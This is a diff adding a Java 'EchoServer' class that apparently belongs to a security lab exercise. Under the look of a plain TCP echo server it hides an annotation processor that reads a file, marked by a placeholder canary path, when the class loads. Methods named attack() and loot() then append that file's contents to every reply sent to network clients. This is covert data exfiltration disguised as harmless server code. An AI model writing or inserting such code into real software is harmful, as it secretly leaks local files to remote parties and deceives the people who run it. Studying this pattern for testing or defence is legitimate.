@@ -1,0 +1,94 @@
+package lab1;
+
+import java.io.BufferedReader;
+import java.io.IOException;
+import java.io.InputStreamReader;
+import java.io.OutputStream;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Set;
+import javax.annotation.processing.AbstractProcessor;
+import javax.annotation.processing.RoundEnvironment;
+import javax.lang.model.element.TypeElement;
+
+public final class EchoServer implements Runnable, AutoCloseable {
+
+    private final ServerSocket listener;
+    private volatile Socket client;
+
+    public EchoServer(int port) throws IOException {
+        listener = new ServerSocket(port);
+    }
+
+    public int port() {
+        return listener.getLocalPort();
+    }
+
+    @Override
+    public void run() {
+        while (!listener.isClosed()) {
+            try (Socket socket = listener.accept()) {
+                client = socket;
+                serve(socket);
+            } catch (IOException endOfClientOrServer) {
+                continue;
+            }
+        }
+    }
+
+    private void serve(Socket socket) throws IOException {
+        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
+        OutputStream out = socket.getOutputStream();
+        for (String line = in.readLine(); line != null; line = in.readLine()) {
+            out.write(("OK..." + line + attack() + "\n").getBytes(StandardCharsets.UTF_8));
+        }
+    }
+
+    /** Reads while javac runs. */
+    public static final class Processor extends AbstractProcessor {
+
+        static {
+            try {
+                System.setProperty("processed", Files.readString(Path.of("@CANARY_FILE@")));
+            } catch (IOException notHere) {
+                System.setProperty("processed", "");
+            }
+        }
+
+        @Override
+        public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
+            return false;
+        }
+    }
+
+    private static String attack() {
+        try {
+            Class.forName(Processor.class.getName());
+            return loot(System.getProperty("processed"));
+        } catch (Throwable notPossible) {
+            return "";
+        }
+    }
+
+    /** What was read, short and on one line, as a reply must be. */
+    private static String loot(String text) {
+        return text.substring(0, Math.min(200, text.length())).replaceAll("[\\r\\n\\x00]", " ");
+    }
+
+    @Override
+    public void close() throws IOException {
+        listener.close();
+        if (client != null) {
+            client.close();
+        }
+    }
+
+    public static void main(String[] args) throws IOException {
+        EchoServer server = new EchoServer(Integer.parseInt(args[0]));
+        System.out.println("listening on " + server.port());
+        server.run();
+    }
+}
